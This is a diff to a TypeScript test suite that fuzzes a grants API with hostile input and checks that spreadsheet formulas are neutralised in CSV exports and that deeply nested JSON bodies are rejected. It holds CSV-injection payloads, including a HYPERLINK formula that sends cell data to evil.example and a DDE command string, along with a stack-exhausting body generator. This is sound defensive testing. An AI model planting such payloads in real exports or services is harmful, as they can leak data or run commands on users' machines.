@@ -1,11 +1,15 @@
 import { createHash } from 'node:crypto';
+import { DataSource } from 'typeorm';
 import {
+  createDraftApplication,
+  createOpenCompetition,
   createStaff,
   createTestContext,
   HttpResponse,
   loginAdmin,
   registerNgo,
   Session,
+  submitApplication,
   TestContext,
 } from '@grants/testing';
 
@@ -51,7 +55,17 @@ const NASTY_STRINGS = [
   'NaN',
   '-1',
   '150000.001',
+  // Spreadsheet formulas (OWASP CSV injection): data everywhere, neutralised in CSV exports.
+  '=HYPERLINK("http://evil.example","Подробнее")',
+  "+cmd|' /C calc'!A0",
+  '-2+3+cmd|x!A0',
+  '@SUM(1+1)',
+  '\t=1+1',
+  '\r=1+1',
 ];
+
+/** `{"<key>":[[[…depth…]]]}`: a stack-deep body (2,000 levels is about 4 KB). */
+const deepBody = (key: string, depth = 2000) => `{"${key}":${'['.repeat(depth)}${']'.repeat(depth)}}`;
 const NASTY_VALUES: unknown[] = [
   null,
   true,
@@ -133,6 +147,7 @@ describe('Hostile input on every endpoint', () => {
 
     const failures: string[] = [];
     let sent = 0;
+    let deep = 0;
     const rounds = Math.ceil(1100 / operations.length);
     for (let round = 0; round < rounds; round++) {
       for (const { method, path, op } of operations) {
@@ -158,6 +173,12 @@ describe('Hostile input on every endpoint', () => {
           });
         } else if (kind < 0.16) {
           res = await client.request(method as 'POST', url, 'a=1&b=2', { 'content-type': 'text/plain' });
+        } else if (kind < 0.22) {
+          const props = Object.keys(resolve(doc, schema)?.properties ?? {});
+          res = await client.request(method as 'POST', url, deepBody(props.length ? pick(props) : 'x'), {
+            'content-type': 'application/json',
+          });
+          deep++;
         } else {
           res = await client.request(method as 'POST', url, JSON.stringify(hostileBody(doc, schema)), {
             'content-type': 'application/json',
@@ -171,9 +192,82 @@ describe('Hostile input on every endpoint', () => {
         }
       }
     }
-    console.log(`fuzz: ${sent} requests over ${operations.length} operations, ${failures.length} failures`);
+    console.log(
+      `fuzz: ${sent} requests (${deep} nested 2,000 deep) over ${operations.length} operations, ${failures.length} failures`,
+    );
     expect(sent).toBeGreaterThanOrEqual(1000);
+    expect(deep).toBeGreaterThan(10);
     expect(failures.slice(0, 20)).toEqual([]);
+  });
+
+  it('answers a 2,000-deep body with 400 on every operation that takes a JSON body', async () => {
+    const wrong: string[] = [];
+    let checked = 0;
+    for (const [path, item] of Object.entries<any>(doc.paths)) {
+      for (const method of ['post', 'put', 'patch']) {
+        const schema = item[method]?.requestBody?.content?.['application/json']?.schema;
+        if (!schema) continue;
+        const url = path.replace(/\{[^}]+\}/g, '3f2504e0-4f89-41d3-9a0c-0305e82c3301');
+        const props = Object.keys(resolve(doc, schema)?.properties ?? {});
+        const res = await ctx.http
+          .as(sessions.admin!)
+          .request(method.toUpperCase() as 'POST', url, deepBody(props[0] ?? 'x'), {
+            'content-type': 'application/json',
+          });
+        checked++;
+        if (res.status !== 400 || !isErrorShape(res) || !/deeper than/.test(String(res.body.message)))
+          wrong.push(`${method} ${path} → ${res.status} ${res.text.slice(0, 120)}`);
+      }
+    }
+    expect(checked).toBeGreaterThan(10);
+    expect(wrong).toEqual([]);
+  });
+
+  it('keeps spreadsheet formulas as data in JSON and neutralises them in the CSV export', async () => {
+    const formulas = {
+      organization: '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")',
+      title: "+cmd|' /C calc'!A0",
+      summary: '-5%',
+      geography: '@SUM(1+1)',
+    };
+    const admin = sessions.admin!;
+    const ngo = await registerNgo(ctx.http, { organization: { fullName: formulas.organization } });
+    const competition = await createOpenCompetition(ctx.http, admin);
+    const application = await createDraftApplication(ctx.http, ngo, competition.id, {
+      title: formulas.title,
+      summary: formulas.summary,
+      geography: formulas.geography,
+    });
+    const read = await ctx.http.as(ngo).get(`/applications/${application.id}`);
+    expect(read.body).toMatchObject({ title: formulas.title, summary: '-5%', geography: formulas.geography });
+    await submitApplication(ctx.http, ngo, application.id);
+    // The award itself is another suite's concern: the row is made awarded directly.
+    await ctx.api
+      .get(DataSource)
+      .query(
+        `UPDATE applications SET status = 'awarded', awarded_amount = requested_amount, score = 80 WHERE id = $1`,
+        [application.id],
+      );
+    await ctx.api
+      .get(DataSource)
+      .query(`UPDATE competitions SET status = 'results_announced', announced_at = now() WHERE id = $1`, [
+        competition.id,
+      ]);
+    const csv = await ctx.http.as(admin).get(`/statistics/${competition.year}/export.csv`);
+    expect(csv.status).toBe(200);
+    const cells = csv.text
+      .slice(1)
+      .split('\r\n')
+      .filter(Boolean)
+      .slice(1)
+      .flatMap((line) => line.match(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)!.map((c) => c.replace(/,$/, '')))
+      .map((c) => (c.startsWith('"') ? c.slice(1, -1).replace(/""/g, '"') : c));
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    for (const value of Object.values(formulas)) expect(cells).toContain(`'${value}`);
+    const json = await ctx.http.as(admin).get(`/statistics/${competition.year}/export.json`);
+    expect(json.body.grants).toEqual(
+      expect.arrayContaining([expect.objectContaining({ title: formulas.title, description: '-5%' })]),
+    );
   });
 
   it('keeps HTML and SQL fragments as plain data', async () => {
